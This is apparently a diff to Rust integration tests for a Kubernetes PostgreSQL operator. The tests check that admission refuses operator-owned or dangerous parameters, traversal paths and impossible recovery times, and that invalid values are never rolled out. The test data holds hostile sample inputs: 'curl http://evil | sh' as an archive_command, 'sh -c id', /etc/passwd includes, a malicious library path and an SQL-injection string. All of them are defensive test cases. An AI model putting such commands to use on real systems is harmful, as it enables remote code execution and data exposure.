@@ -705,17 +705,7 @@ async fn cluster_children_are_written_only_when_they_differ() {
         .replace("pg-config", &PostParams::default(), &cm)
         .await
         .unwrap();
-    eventually("pg-config restored", WAIT, || async {
-        let cm = configs.get("pg-config").await.map_err(|e| e.to_string())?;
-        let conf = cm.data.unwrap_or_default()["postgresql.conf"].clone();
-        if conf.contains("max_connections = '150'") {
-            Ok(())
-        } else {
-            Err(conf)
-        }
-    })
-    .await
-    .unwrap();
+    wait_conf(&configs, "pg-config", "max_connections = '150'").await;
     let w1 = writes();
     assert!(
         (w0 + 2.0..=w0 + 4.0).contains(&w1),
@@ -724,6 +714,21 @@ async fn cluster_children_are_written_only_when_they_differ() {
     // And quiet again.
     env.reconciled(C, reconciles(), 3.0).await;
     assert_eq!(writes(), w1, "resyncs after the repair applied children");
+}
+
+/// Waits until the ConfigMap `name`'s `postgresql.conf` contains `needle`.
+async fn wait_conf(configs: &Api<ConfigMap>, name: &str, needle: &str) {
+    eventually(&format!("{name}: {needle:?}"), WAIT, || async {
+        let cm = configs.get(name).await.map_err(|e| e.to_string())?;
+        let conf = cm.data.unwrap_or_default()["postgresql.conf"].clone();
+        if conf.contains(needle) {
+            Ok(())
+        } else {
+            Err(conf)
+        }
+    })
+    .await
+    .unwrap();
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -1790,6 +1795,19 @@ where
     }
 }
 
+/// Creates the PostgresCluster `obj` as a dry run, which the API server must admit.
+async fn admitted(clusters: &Api<PostgresCluster>, obj: serde_json::Value, what: &str) {
+    let obj: PostgresCluster = serde_json::from_value(obj).unwrap();
+    let dry_run = PostParams {
+        dry_run: true,
+        ..Default::default()
+    };
+    clusters
+        .create(&dry_run, &obj)
+        .await
+        .unwrap_or_else(|e| panic!("{what}: refused: {e}"));
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn schema_rejects_bad_input_and_quoting_defuses_it() {
     let pg = Postgres::start().await.expect("PostgreSQL");
@@ -1956,19 +1974,80 @@ async fn schema_rejects_bad_input_and_quoting_defuses_it() {
     // A value postgresql.conf cannot hold (a newline) is refused; a backslash is fine.
     let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"log_line_prefix": "a\nb"}}))).await;
     assert!(m.contains("control characters"), "{m}");
-    let ok: PostgresCluster = serde_json::from_value(pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "resources": {"requests": {"cpu": "500m", "memory": 1073741824u64}}, "parameters": {"log_line_prefix": "a\\b"}}))).unwrap();
-    clusters
-        .create(
-            &PostParams {
-                dry_run: true,
-                ..Default::default()
-            },
-            &ok,
-        )
-        .await
-        .expect("valid quantities and a backslash are accepted");
+    admitted(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "resources": {"requests": {"cpu": "500m", "memory": 1073741824u64}}, "parameters": {"log_line_prefix": "a\\b"}})), "valid quantities and a backslash").await;
     let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"bad key'": "1"}}))).await;
     assert!(m.contains("parameter names"), "{m}");
+    // Issue #39, item 5: what the operator owns (archiving, recovery, replication, TLS, its
+    // files and includes), libraries by path, logs outside the data directory, wal_level
+    // minimal: refused at admission naming the key.
+    for (key, value) in [
+        ("include", "/etc/passwd"),
+        ("include_dir", "/etc"),
+        ("include_if_exists", "/etc/passwd"),
+        ("archive_command", "curl http://evil | sh"),
+        ("archive_library", "basic_archive"),
+        ("restore_command", "sh -c id"),
+        ("recovery_target_time", "2026-01-01"),
+        ("primary_conninfo", "host=evil"),
+        ("ssl", "off"),
+        ("ssl_ca_file", "/etc/passwd"),
+        ("ssl_passphrase_command", "sh -c id"),
+        ("synchronous_standby_names", "*"),
+        ("hot_standby", "off"),
+        ("wal_log_hints", "off"),
+        ("unix_socket_directories", "/tmp"),
+        (
+            "shared_preload_libraries",
+            "pg_stat_statements,/tmp/evil.so",
+        ),
+        ("session_preload_libraries", "$libdir/evil"),
+        ("log_directory", "/steward/run"),
+        ("log_filename", "../../steward/run/defaults.conf"),
+        ("wal_level", "minimal"),
+    ] {
+        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {key: value}}))).await;
+        assert!(
+            m.contains("spec.parameters") && m.contains(key),
+            "{key}: {m}"
+        );
+    }
+    // Several at once: one is named (all of them once it reached the controller).
+    let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "parameters": {"ssl": "off", "archive_mode": "off", "work_mem": "4MB"}}))).await;
+    assert!(
+        (m.contains("spec.parameters.archive_mode is managed by the operator")
+            || m.contains("spec.parameters.ssl is managed by the operator"))
+            && !m.contains("work_mem"),
+        "{m}"
+    );
+    // Object-store paths stay where they are written; recovery times exist.
+    let store = |path: &str| json!({"endpoint": "http://s3:9000", "bucket": "backups", "path": path, "credentialsSecret": "s3"});
+    for path in ["../../other/cluster", "/abs", "a//b", "./a"] {
+        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "backup": {"objectStore": store(path)}}))).await;
+        assert!(m.contains("spec.backup.objectStore.path"), "{path}: {m}");
+        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "bootstrap": {"recovery": {"objectStore": store(path)}}}))).await;
+        assert!(
+            m.contains("spec.bootstrap.recovery.objectStore.path"),
+            "{path}: {m}"
+        );
+    }
+    for time in [
+        "2026-02-30T25:61:00Z",
+        "2026-02-29T00:00:00Z",
+        "2026-12-02T24:00:00Z",
+    ] {
+        let m = rejected(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"}, "bootstrap": {"recovery": {"objectStore": store("src"), "targetTime": time}}}))).await;
+        assert!(
+            m.contains("spec.bootstrap.recovery.targetTime"),
+            "{time}: {m}"
+        );
+    }
+    // What stays the cluster's: admitted (a value PostgreSQL would refuse, like
+    // log_statement: bogus, is the controller's to refuse, in status).
+    admitted(&clusters, pgc(json!({"instances": 1, "version": 16, "storage": {"size": "1Gi"},
+        "parameters": {"archive_timeout": "1min", "shared_preload_libraries": "pg_stat_statements", "wal_level": "logical", "hot_standby_feedback": "on", "log_directory": "log", "log_statement": "bogus"},
+        "backup": {"objectStore": store("prod/orders-db/")},
+        "bootstrap": {"recovery": {"objectStore": store("prod/source"), "targetTime": "2028-02-29T03:04:05.25+02:00"}}})),
+        "the cluster's own parameters, a relative path and a real time").await;
     let c = fixtures::postgres_cluster("c", 1).build();
     clusters.create(&PostParams::default(), &c).await.unwrap();
     let err = clusters
@@ -2047,6 +2126,299 @@ async fn schema_rejects_bad_input_and_quoting_defuses_it() {
         .unwrap()
         .get(0);
     assert_eq!(back, "a'b\\c'; DROP TABLE x; --");
+}
+
+/// Issue #39, item 5: `log_statement: bogus` was admitted, rolled out, and took the cluster
+/// down (`FATAL: configuration file … contains errors`) while status said only
+/// `InstancesNotReady`. Now a value PostgreSQL would refuse is `Ready=False
+/// InvalidParameters` naming it, and nothing is written: a new cluster gets no StatefulSet,
+/// a running one keeps its ConfigMap and StatefulSet as they were (compared after the
+/// operator looked at it again, not after a sleep), and a good value rolls out again.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_bad_parameter_value_is_explained_and_never_rolled_out() {
+    const C: &str = "postgrescluster";
+    let env = env("pgparam").await;
+    let clusters = env.api::<PostgresCluster>();
+    let (statefulsets, configs) = (env.api::<StatefulSet>(), env.api::<ConfigMap>());
+
+    // Created bad: refused, nothing written.
+    let bad = fixtures::postgres_cluster("bad", 1)
+        .parameter("log_statement", "bogus")
+        .build();
+    clusters.create(&PostParams::default(), &bad).await.unwrap();
+    let message = wait_refused(&clusters, "bad", "InvalidParameters").await;
+    assert!(
+        message.contains("log_statement = 'bogus' is not valid")
+            && message.contains("none, ddl, mod, all"),
+        "{message}"
+    );
+    assert!(statefulsets.get_opt("bad").await.unwrap().is_none());
+    assert!(configs.get_opt("bad-config").await.unwrap().is_none());
+    // (Gone, so that every reconcile below is the next cluster's.)
+    clusters
+        .delete("bad", &DeleteParams::default())
+        .await
+        .unwrap();
+    wait_gone(&clusters, "bad").await;
+
+    // Created good, then changed to a bad value: it keeps what it runs.
+    let good = fixtures::postgres_cluster("pg", 1)
+        .parameter("log_statement", "ddl")
+        .build();
+    clusters
+        .create(&PostParams::default(), &good)
+        .await
+        .unwrap();
+    eventually("pg reconciled", WAIT, || async {
+        let c = clusters.get("pg").await.map_err(|e| e.to_string())?;
+        let seen = c.status.and_then(|s| s.observed_generation);
+        match (seen, configs.get_opt("pg-config").await) {
+            (Some(g), Ok(Some(_))) if Some(g) == c.metadata.generation => Ok(()),
+            other => Err(format!("{other:?}")),
+        }
+    })
+    .await
+    .unwrap();
+    env.looked_again(C).await;
+    let generated = || async {
+        let sts = statefulsets.get("pg").await.unwrap();
+        let cm = configs.get("pg-config").await.unwrap();
+        (
+            serde_json::to_value(&sts.spec).unwrap(),
+            sts.annotations().clone(),
+            cm.data.unwrap_or_default(),
+        )
+    };
+    let merge = |patch: serde_json::Value| {
+        let clusters = clusters.clone();
+        async move {
+            clusters
+                .patch("pg", &PatchParams::default(), &Patch::Merge(patch))
+                .await
+        }
+    };
+    let before = generated().await;
+    assert!(before.2["postgresql.conf"].contains("log_statement = 'ddl'\n"));
+    merge(json!({"spec": {"parameters": {"log_statement": "bogus"}}}))
+        .await
+        .expect("admitted: the value is the controller's to check");
+    let message = wait_refused(&clusters, "pg", "InvalidParameters").await;
+    assert!(
+        message.contains("log_statement = 'bogus'")
+            && message.contains("the instances keep the last valid configuration"),
+        "{message}"
+    );
+    // A refused spec is not retried until it changes: a change of metadata makes the
+    // operator look again, and it must write nothing this time either.
+    let seen = env.operator.all_reconciles(C);
+    merge(json!({"metadata": {"annotations": {"test.steward.dev/look": "again"}}}))
+        .await
+        .unwrap();
+    env.reconciled(C, seen, 1.0).await;
+    let after = generated().await;
+    assert_eq!(
+        before.2, after.2,
+        "the ConfigMap kept the last good postgresql.conf"
+    );
+    assert_eq!(
+        before.0, after.0,
+        "the StatefulSet's spec is as the operator generated it before"
+    );
+    assert_eq!(
+        before.1.get("database.steward.dev/template-hash"),
+        after.1.get("database.steward.dev/template-hash")
+    );
+
+    // A good value again: refused no more, and rolled out.
+    merge(json!({"spec": {"parameters": {"log_statement": "mod"}}}))
+        .await
+        .unwrap();
+    wait_conf(&configs, "pg-config", "log_statement = 'mod'\n").await;
+    let c = clusters.get("pg").await.unwrap();
+    let ready = condition(&c.status.unwrap_or_default().conditions, "Ready");
+    assert!(
+        ready
+            .as_ref()
+            .is_none_or(|(_, reason, _)| reason != "InvalidParameters"),
+        "{ready:?}"
+    );
+}
+
+/// The parameter table (`database_operator::parameters::TABLE`) against a real PostgreSQL:
+/// every entry is what `pg_settings` says (type, unit, range, enum values), and for every
+/// sample value (bounds and one past them, units of each kind, case, prefixes, hex, octal,
+/// fractions, garbage) the operator's verdict is PostgreSQL's own (`ALTER SYSTEM SET` parses
+/// and checks a value as the configuration file does). Where they differ only because a
+/// PostgreSQL check hook looks at other settings, the operator admits and PostgreSQL refuses:
+/// listed, and never the other way round.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn parameter_checks_agree_with_postgresql() {
+    use database_operator::parameters::{self, Value};
+    let pg = Postgres::start().await.expect("PostgreSQL");
+    let admin = superuser(&pg).await;
+    let version = i32::try_from(pg.major_version()).unwrap();
+    let mut wrong = Vec::new();
+    let mut hooks = Vec::new();
+    let mut checked = 0;
+    for &(name, from, to, value) in parameters::TABLE {
+        if !(from..=to).contains(&version) {
+            continue;
+        }
+        let Some(row) = admin
+            .query_opt(
+                "SELECT vartype, unit, min_val, max_val, enumvals FROM pg_settings WHERE lower(name) = $1",
+                &[&name],
+            )
+            .await
+            .unwrap()
+        else {
+            wrong.push(format!("{name}: unknown to PostgreSQL {version}"));
+            continue;
+        };
+        let (vartype, unit): (String, Option<String>) = (row.get(0), row.get(1));
+        let (min, max): (Option<String>, Option<String>) = (row.get(2), row.get(3));
+        let enumvals: Option<Vec<String>> = row.get(4);
+        let described = match value {
+            Value::Bool => vartype == "bool",
+            Value::Enum(names, bools) => {
+                vartype == "enum"
+                    && enumvals.unwrap_or_default().iter().all(|v| {
+                        names.iter().any(|n| n.eq_ignore_ascii_case(v))
+                            || (bools && (v == "on" || v == "off"))
+                    })
+            }
+            Value::Int {
+                min: lo,
+                max: hi,
+                unit: u,
+            } => {
+                vartype == "integer"
+                    && unit.as_deref() == u.name()
+                    && min == Some(lo.to_string())
+                    && max == Some(hi.to_string())
+            }
+            Value::Real {
+                min: lo,
+                max: hi,
+                unit: u,
+            } => {
+                let num = |s: Option<String>| s.and_then(|s| s.parse::<f64>().ok());
+                vartype == "real"
+                    && unit.as_deref() == u.name()
+                    && num(min) == Some(lo)
+                    && num(max).is_some_and(|m| m == hi || (hi == f64::MAX && m > 1e300))
+            }
+        };
+        if !described {
+            wrong.push(format!(
+                "{name}: the table says {value:?}, pg_settings {:?}",
+                (
+                    row.get::<_, String>(0),
+                    row.get::<_, Option<String>>(1),
+                    row.get::<_, Option<String>>(2),
+                    row.get::<_, Option<String>>(3),
+                    row.get::<_, Option<Vec<String>>>(4)
+                )
+            ));
+        }
+        for sample in samples(value) {
+            let ours = parameters::check_value(version, name, &sample);
+            let theirs = admin
+                .batch_execute(&format!(
+                    "ALTER SYSTEM SET {name} = {}",
+                    database_operator::ident::quote_literal(&sample)
+                ))
+                .await;
+            checked += 1;
+            match (&ours, &theirs) {
+                (Ok(()), Ok(())) | (Err(_), Err(_)) => {}
+                (Ok(()), Err(e)) => hooks.push(format!(
+                    "{name} = {sample:?}: {}",
+                    e.as_db_error()
+                        .map_or_else(|| e.to_string(), |d| d.message().to_string())
+                )),
+                (Err(e), Ok(())) => wrong.push(format!(
+                    "{name} = {sample:?}: PostgreSQL takes it, the operator refuses: {e}"
+                )),
+            }
+        }
+    }
+    admin.batch_execute("ALTER SYSTEM RESET ALL").await.unwrap();
+    println!(
+        "{checked} values of {} parameters checked against PostgreSQL {version}",
+        parameters::TABLE.len()
+    );
+    println!(
+        "admitted by the table, refused by a check hook:\n{}",
+        hooks.join("\n")
+    );
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    // Only the counts PostgreSQL adds up with the others (MAX_BACKENDS) may differ.
+    assert!(
+        hooks.iter().all(|h| h.contains("262143")),
+        "{}",
+        hooks.join("\n")
+    );
+
+    fn samples(value: Value) -> Vec<String> {
+        let mut out: Vec<String> = ["", "bogus", " ", "1x"].map(String::from).to_vec();
+        match value {
+            Value::Bool => out.extend(
+                [
+                    "on", "off", "of", "o", "t", "tr", "TRUE", "y", "yes", "n", "no", "f", "fal",
+                    "1", "0", "2", "on ", " on", "yess",
+                ]
+                .map(String::from),
+            ),
+            Value::Enum(names, _) => {
+                for n in names {
+                    out.extend([n.to_string(), n.to_uppercase(), format!("{n} ")]);
+                }
+                out.extend(
+                    [
+                        "on", "off", "true", "false", "yes", "no", "1", "0", "y", "of",
+                    ]
+                    .map(String::from),
+                );
+            }
+            Value::Int { min, max, .. } => {
+                out.extend([min, max, min - 1, max + 1].map(|n| n.to_string()));
+                out.extend(
+                    [
+                        " 100 ", "0x10", "0X1f", "010", "08", "1.5", "1e2", ".5", "-0", "+7",
+                    ]
+                    .map(String::from),
+                );
+                out.extend(units());
+            }
+            Value::Real { min, max, .. } => {
+                out.extend([min, min - 1.0].map(|n| n.to_string()));
+                if max < 1e300 {
+                    out.extend([max, max + 1.0].map(|n| n.to_string()));
+                }
+                out.extend(
+                    [
+                        "0.5", "1e2", "1e-3", " 1.5 ", "nan", "inf", ".5", "1.", "0x10",
+                    ]
+                    .map(String::from),
+                );
+                out.extend(units());
+            }
+        }
+        out
+    }
+
+    /// Units of every kind, spelled right and wrong, for every number.
+    fn units() -> Vec<String> {
+        [
+            "1kB", "64kB", "1MB", "1 MB", "1mb", "1GB", "8TB", "1B", "100B", "1ms", "1s", "30s",
+            "1min", "1 min", "1h", "1d", "2d", "1us", "1sec", "1 s x", "1MB ", "0.5GB", "1.5min",
+            "1e3ms",
+        ]
+        .iter()
+        .map(|u| u.to_string())
+        .collect()
+    }
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
